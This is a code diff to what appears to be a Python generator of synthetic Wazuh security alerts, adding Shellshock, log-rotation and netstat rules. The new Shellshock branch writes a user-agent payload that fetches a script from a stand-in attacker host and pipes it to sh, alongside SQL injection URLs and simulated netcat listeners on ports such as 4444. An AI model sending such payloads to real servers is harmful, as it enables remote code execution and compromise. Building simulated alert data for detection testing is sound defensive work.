@@ -53,6 +53,9 @@ _RULES: tuple[_Rule, ...] = (
           "sql_injection"), "web", _EXPLOIT, weight=3),
     _Rule("31106", 12, "A web attack returned code 200 (success).",
           ("web", "accesslog", "attack"), "web", _EXPLOIT, weight=1),
+    _Rule("31168", 15, "Shellshock attack detected", ("web", "accesslog", "attack"), "web",
+          ("T1068", "Exploitation for Privilege Escalation", "Privilege Escalation"),
+          weight=0.2),
     _Rule("31151", 10, "Multiple web server 400 error codes from same source ip.",
           ("web", "accesslog", "web_scan", "recon"), "web",
           ("T1595.002", "Vulnerability Scanning", "Reconnaissance"), weight=2),
@@ -82,6 +85,9 @@ _RULES: tuple[_Rule, ...] = (
           ("T1136.001", "Local Account", "Persistence"), weight=1),
     _Rule("5402", 3, "Successful sudo to ROOT executed.", ("syslog", "sudo"), "sudo",
           ("T1548.003", "Sudo and Sudo Caching", "Privilege Escalation"), weight=4),
+    _Rule("591", 3, "Log file rotated.", ("ossec",), "ossec", weight=3),
+    _Rule("533", 7, "Listened ports status (netstat) changed (new port opened or closed).",
+          ("ossec",), "netstat", weight=1),
 )
 _USERS = ("root", "admin", "ubuntu", "oracle", "test", "postgres", "git", "deploy")
 _CVES = (("CVE-2021-44228", "log4j", "2.14.1", "10.0"), ("CVE-2023-38545", "curl", "7.88.1",
@@ -116,11 +122,14 @@ def _details(rng: random.Random, rule: _Rule, site: Site, host: str, now: dateti
     if rule.kind == "web":
         url = rng.choice(("/index.php?id=1'%20OR%20'1'='1", "/admin/config.php",
                           "/.env", "/dichvucong/tracuu?ma=1%20UNION%20SELECT%201"))
-        code = "200" if rule.id == "31106" else rng.choice(("400", "403", "404"))
+        agent = rng.choice(USER_AGENTS)
+        if rule.id == "31168":  # the payload rides in a header bash copies into a variable
+            url, agent = "/cgi-bin/status", "() { :; }; /bin/bash -c \"wget -qO- " \
+                "http://stealer-panel.example/x.sh | sh\""
+        code = "200" if rule.id in ("31106", "31168") else rng.choice(("400", "403", "404"))
         return {"data": {"protocol": "GET", "srcip": attacker, "id": code, "url": url},
                 "full_log": f'{attacker} - - [{now.strftime("%d/%b/%Y:%H:%M:%S %z")}] "GET '
-                            f'{url} HTTP/1.1" {code} {rng.randint(150, 9000)} "-" '
-                            f'"{rng.choice(USER_AGENTS)}"',
+                            f'{url} HTTP/1.1" {code} {rng.randint(150, 9000)} "-" "{agent}"',
                 "location": "/var/log/nginx/access.log", "decoder": {"name": "web-accesslog"}}
     if rule.kind == "windows":
         user = f"{rng.choice(DEPARTMENTS)}.{rng.choice(('nguyen', 'tran', 'le', 'pham'))}"
@@ -159,6 +168,18 @@ def _details(rng: random.Random, rule: _Rule, site: Site, host: str, now: dateti
                                             "file": path, "sha1": f"{rng.getrandbits(160):040x}"}},
                          "integration": "virustotal"},
                 "location": "virustotal", "decoder": {"name": "json"}}
+    if rule.kind == "ossec":
+        return {"full_log": f"ossec: File rotated (inode changed): '/var/log/"
+                            f"{rng.choice(('nginx/access.log', 'auth.log', 'syslog'))}'.",
+                "location": "wazuh-logcollector", "decoder": {"name": "ossec"}}
+    if rule.kind == "netstat":
+        port = rng.choice((4444, 8081, 31337, 5900))
+        return {"previous_output": "ossec: output: 'netstat listening ports':\n"
+                                   "tcp 0.0.0.0:22 0.0.0.0:* 1043/sshd",
+                "full_log": "ossec: output: 'netstat listening ports':\ntcp 0.0.0.0:22 "
+                            f"0.0.0.0:* 1043/sshd\ntcp 0.0.0.0:{port} 0.0.0.0:* "
+                            f"{rng.randint(2000, 60000)}/{rng.choice(('nc', 'python3', 'x'))}",
+                "location": "netstat listening ports", "decoder": {"name": "ossec"}}
     line = {"rootcheck": f"Trojaned version of file '{path}' detected.",
             "account": f"{stamp} {host} useradd[{rng.randint(1000, 60000)}]: new user: "
                        f"name={rng.choice(_USERS)}2, UID=1001, GID=1001",
